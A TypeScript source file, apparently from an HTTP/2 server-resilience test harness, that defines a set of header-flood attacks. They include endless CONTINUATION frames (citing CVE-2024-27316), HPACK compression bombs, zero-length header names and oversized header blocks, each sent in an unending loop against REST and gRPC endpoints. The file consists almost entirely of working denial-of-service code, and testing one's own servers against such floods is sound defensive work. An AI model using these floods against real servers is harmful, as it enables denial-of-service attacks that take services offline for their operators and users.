import { type Attack, flood, repeated } from "./attack.ts";
import { callBlock, field, newest, remembered, requestBlock } from "./header-blocks.ts";
import { flags, frame, frameType, headersFrame } from "./http2-frames.ts";
import type { RawConnection } from "./raw-connection.ts";

const get = requestBlock("GET", "/v1/echo/hi");
const unary = callBlock("Echo");

/** A first request whose block the server remembers, then requests without end. */
function* afterFirst(connection: RawConnection, first: Buffer, block: Buffer): Iterable<Buffer> {
  yield headersFrame(connection.nextStream(), first, flags.endStream);
  yield* repeated(1, () => [headersFrame(connection.nextStream(), block, flags.endStream)]);
}

/** A block that is never finished. */
function* continued(connection: RawConnection, perChunk: number, make: (turn: number) => Buffer) {
  yield frame(frameType.headers, flags.endStream, connection.nextStream(), get);
  yield* repeated(perChunk, (turn) => [frame(frameType.continuation, flags.none, 1, make(turn))]);
}

const fourKilobytes = remembered("x-bomb", "v".repeat(3_900));
const nameless = Buffer.concat(Array(60).fill(field("", "")));
const fifteenKilobytes = Buffer.concat(
  Array.from({ length: 15 }, (_, i) => field(`x-${i}`, "v".repeat(1_000))),
);
const concat = (...blocks: Buffer[]): Buffer => Buffer.concat(blocks);

/** Headers that cost the server more than the client: RFC 7541 section 7.3, CVE-2024-27316. */
export const headerFloods: readonly Attack[] = [
  flood("CONTINUATION without end", (connection) =>
    continued(connection, 1, (turn) => field(`x-${turn}`, "v".repeat(1_000))),
  ),
  flood("CONTINUATION, empty", (connection) => continued(connection, 50, () => Buffer.alloc(0))),
  flood("HPACK bomb, 4,000 references", (connection) =>
    afterFirst(connection, concat(get, fourKilobytes), concat(get, Buffer.alloc(4_000, newest))),
  ),
  flood("HPACK bomb, legal: 100 of 4 KB", (connection) =>
    afterFirst(connection, concat(get, fourKilobytes), concat(get, Buffer.alloc(100, newest))),
  ),
  flood("header names of no length, REST", (connection) =>
    afterFirst(connection, get, concat(get, nameless)),
  ),
  flood("header names of no length, gRPC", (connection) =>
    afterFirst(connection, unary, concat(unary, nameless)),
  ),
  flood("15 KB of headers", (connection) =>
    afterFirst(connection, get, concat(get, fifteenKilobytes)),
  ),
];
